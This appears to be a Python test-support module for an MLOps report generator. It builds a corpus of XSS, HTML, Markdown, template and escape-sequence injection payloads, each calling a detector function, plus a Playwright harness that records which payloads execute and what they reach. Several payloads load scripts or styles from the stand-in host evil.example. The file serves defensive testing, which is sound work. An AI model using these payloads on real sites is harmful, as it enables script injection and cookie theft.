"""Script strings for every text that data or people choose, and a browser that tells what ran.

Each string calls `Z` with its own number. A page that is watched gives every frame that function:
it says that it was called, and whether the caller could read the cookie or ask the same origin.
"""

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from itertools import cycle
from typing import Any

import numpy as np
import pandas as pd

from rtscv_mlops.config.monitor import DriftSettings
from rtscv_mlops.facts import ClassComparison, ClusterCard, Comparison, Evidence, TellingFeature
from tests.report_example import not_assessed

EVIL = "evil.example"

TEMPLATES = (
    # tags that hold script
    "<script>Z</script>",
    "<SCRIPT>Z</SCRIPT>",
    "<script src=//evil.example/N.js></script>",
    "<script/x>Z</script>",
    "<scr<script>ipt>Z</script>",
    "<script>Z<!--",
    # ends of what the text may stand in
    "</script><script>Z</script>",
    "</script ><img src=x onerror=Z>",
    "</SCRIPT/><svg/onload=Z>",
    "</title><script>Z</script>",
    "</style><script>Z</script>",
    "</textarea><script>Z</script>",
    "--><script>Z</script>",
    "<!--<script>Z//--><script>Z</script>",
    "]]><script>Z</script>",
    "</td></table><script>Z</script>",
    # event handlers
    "<img src=x onerror=Z>",
    "<img/src=x/onerror=Z>",
    "<IMG SRC=x ONERROR='Z'>",
    "<img src=x\tonerror\n=\rZ>",
    "<body onload=Z>",
    "<details open ontoggle=Z>",
    "<input autofocus onfocus=Z>",
    "<video><source onerror=Z></video>",
    "<audio src=x onerror=Z>",
    "<style onload=Z></style>",
    "<p style='animation:a' onanimationstart=Z><style>@keyframes a{}</style>",
    "<iframe onload=Z></iframe>",
    # other documents
    "<iframe srcdoc='<script>Z</script>'></iframe>",
    "<iframe src='javascript:Z'></iframe>",
    "<iframe src='data:text/html,<script>Z</script>'></iframe>",
    "<object data='javascript:Z'></object>",
    "<object data='data:text/html,<script>Z</script>'></object>",
    "<embed src='javascript:Z'>",
    "<base href=//evil.example/N/>",
    "<meta http-equiv=refresh content='0;url=javascript:Z'>",
    "<meta http-equiv=refresh content='9;url=//evil.example/N'>",
    "<link rel=stylesheet href=//evil.example/N.css>",
    "<form action='javascript:Z'><button autofocus onfocus=Z>ok</button></form>",
    # other languages within HTML
    "<svg onload=Z>",
    "<svg><script>Z</script></svg>",
    "<svg><animate onbegin=Z attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=Z></foreignObject></svg>",
    "<svg><a xlink:href='javascript:Z'><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=Z></mtext></math>",
    "<math href='javascript:Z'>x</math>",
    # what parsers disagree on
    "<noscript><p title='</noscript><img src=x onerror=Z>'>",
    "<template><img src=x onerror=Z></template><img src=x onerror=Z>",
    "<svg></p><style><a id='</style><img src=x onerror=Z>'>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=Z>",
    "<select><style></select><img src=x onerror=Z></style>",
    "<xmp><p title='</xmp><img src=x onerror=Z>'>",
    "<![CDATA[<script>]]>Z<![CDATA[</script>]]>",
    "<?xml version='1.0'?><script>Z</script>",
    # out of an attribute
    "\" onmouseover=Z autofocus onfocus=Z x=\"",
    "' autofocus onfocus='Z' x='",
    "\"><script>Z</script>",
    "'><script>Z</script>",
    "`><script>Z</script>",
    "x onerror=Z src=x ",
    # out of a script's string
    "\";Z;//",
    "';Z;//",
    "`;Z;//",
    "${Z}",
    "\\\";Z;//",
    "\"};Z;var a={\"b\":\"",
    "\u2028Z\u2029",
    "*/Z/*",
    # addresses
    "javascript:Z",
    "JaVaScRiPt:Z",
    "java\tscript:Z",
    "\x01javascript:Z",
    "data:text/html,<script>Z</script>",
    "vbscript:Z",
    "//evil.example/N",
    "https://evil.example/N?javascript:Z",
    # style
    "<style>@import '//evil.example/N.css';</style>",
    "<p style=\"background:url(//evil.example/N.png)\">",
    "<p style=\"width:expression(Z)\">",
    "<div style=\"position:fixed;inset:0;background:red\">Z</div>",
    "VERDICT_INK}</style><script>Z</script>",
    # Markdown
    "![x](//evil.example/N.png)",
    "![x](https://evil.example/N.png)",
    "[x](javascript:Z)",
    "[x](<javascript:Z>)",
    "<javascript:Z>",
    "<https://evil.example/N>",
    "[x]: javascript:Z\n\n[x]",
    "x\n\n<script>Z</script>\n\n",
    "`` ` <script>Z</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=Z> | c |",
    "https://evil.example/N www.evil.example N@evil.example",
    # templates
    "{{ 7*7 }}{{ Z }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}Z{% endfor %}",
    "{# Z #}{{ config }}",
    "%{customdata}<a href='javascript:Z'>x</a>",
    "$$\\href{javascript:Z}{x}$$",
    "#{Z}<%= Z %>",
    # characters
    "&lt;script&gt;Z&lt;/script&gt;",
    "&#60;img src=x onerror=Z&#62;",
    "\\u003cscript\\u003eZ\\u003c/script\\u003e",
    "\uff1cscript\uff1eZ\uff1c/script\uff1e",
    "+ADw-script+AD4-Z+ADw-/script+AD4-",
    "\u202e<script>Z</script>\u202c",
    "<\x00script>Z</\x00script>",
    "<img src=x\x00 onerror=Z>",
    "<scr\u200bipt>Z</scr\u200bipt><script>Z</script>",
    "\x1b]8;;javascript:Z\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mZ\x1b[0m\x07",
    "[bold red]Z[/] [link=javascript:Z]x[/link]",
    "\r\nBcc: a@evil.example\r\n\r\n<script>Z</script>",
    "__proto__",
    "<img src=x onerror=Z>" + "A" * 10_000,
    "A" * 70 + "<script>Z</script>",
)  # fmt: skip
"""`Z` stands for the call of the detector, and `N` for the number of the string."""


def _numbered(number: int, template: str) -> str:
    return template.replace("Z", f"Z({number})").replace("/N", f"/{number}")


CORPUS = tuple(_numbered(number, template) for number, template in enumerate(TEMPLATES))

DETECTOR = """
window.Z = (number) => {
  let cookie = null, told = false;
  try { cookie = document.cookie; } catch { cookie = null; }
  const tell = (asked) => {
    if (told) { return; }
    told = true;
    window.tellTest({number, cookie: cookie !== null, asked});
  };
  setTimeout(() => tell(false), 400);
  try { fetch('/asked-by-' + number).then(() => tell(true), () => tell(false)); }
  catch { tell(false); }
};
"""


@dataclass
class Watched:
    """What strings did on a page: those that ran, those with access to the origin, requests."""

    page: Any
    calls: list[dict[str, Any]] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)
    """Requests that a policy of the page stopped before they left."""
    complaints: list[str] = field(default_factory=list)

    @property
    def ran(self) -> set[int]:
        return {int(call["number"]) for call in self.calls}

    @property
    def with_access(self) -> set[int]:
        """Strings that could read the cookie or ask the origin; a refusal is neither."""
        return {int(call["number"]) for call in self.calls if call["cookie"] or call["asked"]}

    @property
    def sent(self) -> list[str]:
        """What left the browser because a string asked for it."""
        ours = [url for url in self.requests if EVIL in url or "asked-by-" in url]
        return [url for url in ours if url not in self.stopped]

    def settle(self, seconds: float = 0.5) -> None:
        """Give everything that was begun its time."""
        self.page.wait_for_timeout(1000 * seconds)

    def armed(self) -> list[str]:
        """Return the elements that would run or fetch something once somebody touches them."""
        found: list[str] = self.page.evaluate(ARMED)
        return found


ARMED = r"""() => [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]
  .filter((each) => {
    const [name, value] = [each.name.toLowerCase(), each.value];
    if (name.startsWith('on') || name === 'srcdoc') { return value.includes('Z('); }
    if (name === 'style') { return /url\(|expression\(/.test(value); }
    if (!['href', 'src', 'action', 'data', 'formaction', 'xlink:href'].includes(name)) { return 0; }
    try {
      const place = new URL(value, document.baseURI);
      return /^(javascript|vbscript|data):/.test(place.protocol) && value.includes('Z(')
        || place.host.includes('evil.example');
    } catch { return false; }
  })
  .map((each) => `${one.tagName} ${each.name}=${each.value.slice(0, 200)}`))"""


@contextmanager
def watched(browser: Any, **options: Any) -> Iterator[Watched]:
    """Give a page on which the detector is in place, before anything else runs."""
    context = browser.new_context(**options)
    context.set_default_timeout(60_000)
    page = context.new_page()
    seen = Watched(page)
    page.expose_binding("tellTest", lambda _, call: seen.calls.append(call))
    page.add_init_script(DETECTOR)
    page.on("request", lambda request: seen.requests.append(request.url))
    page.on(
        "requestfailed",
        lambda request: seen.stopped.append(request.url) if request.failure == "csp" else None,
    )
    page.on("console", lambda said: seen.complaints.append(said.text))
    page.on("pageerror", lambda error: seen.complaints.append(str(error)))
    page.on("dialog", lambda dialog: dialog.dismiss())
    yield seen
    context.close()


# -- facts of which every text is hostile


def hostile_cards(strings: Sequence[str], number: int = 1) -> list[ClusterCard]:
    """Groups that are called, told apart and shown by each string once, four to a group."""
    cards = []
    for first in range(0, len(strings), 4):
        some = strings[first : first + 4]
        cards.append(
            ClusterCard(
                number=number + len(cards),
                size=20,
                share=1.0,
                quality=0.5,
                called=dict.fromkeys(some, 0.25),
                confidence=0.9,
                features=tuple(
                    TellingFeature(name=one, here=one, known=one, effect=2.0) for one in some
                ),
                exemplars=({one: one for one in some},),
            )
        )
    return cards


def hostile_comparison(strings: Sequence[str], how: str) -> Comparison:
    """Classes called like each string."""
    return Comparison(
        how=how,
        rows=9,
        champion_accuracy=0.9,
        challenger_accuracy=0.8,
        champion_macro_f=0.9,
        challenger_macro_f=0.8,
        classes=tuple(
            ClassComparison(label=one, rows=9, champion=0.9, challenger=0.8, unknown=0.1)
            for one in strings
        ),
    )


def hostile(payloads: Sequence[str]) -> tuple[Any, Evidence]:
    """Facts and evidence of a report in which every text is a payload, each in its turn."""
    from rtscv_mlops.report.drift import compare_columns

    rng = np.random.default_rng(0)
    text = partial(next, cycle(payloads))
    values = [*payloads, "b", "c"]
    window, reference = (
        pd.DataFrame(
            {name: rng.normal(size=200) for name in payloads}
            | {f"text {name}": rng.choice(values, 200) for name in payloads}
            | {payloads[0] * 300: None}
        )
        for _ in range(2)
    )
    single = ("key", "monitor", "model", "champion_version", "headline", "digest", "null")
    facts = not_assessed(
        **{name: text() for name in (*single, "blocked", "unknown_label")},
        verdict="unknowns",
        findings=tuple(payloads),
        clusters=tuple(hostile_cards(payloads)),
        drift=compare_columns(window, reference, DriftSettings()),
        comparison=hostile_comparison(payloads, text()),
        settings={name: [name] for name in payloads} | {"one": text()},
        timings=dict.fromkeys(payloads, 1.0),
    )
    evidence = Evidence(
        window=window,
        reference=reference,
        unknown=rng.random(200) < 0.1,
        window_scores=rng.random(200),
        known_scores=rng.random(200),
        window_points=rng.normal(size=(200, 2)),
        reference_points=rng.normal(size=(200, 2)),
        point_labels=rng.choice(values, 200),
    )
    return facts, evidence
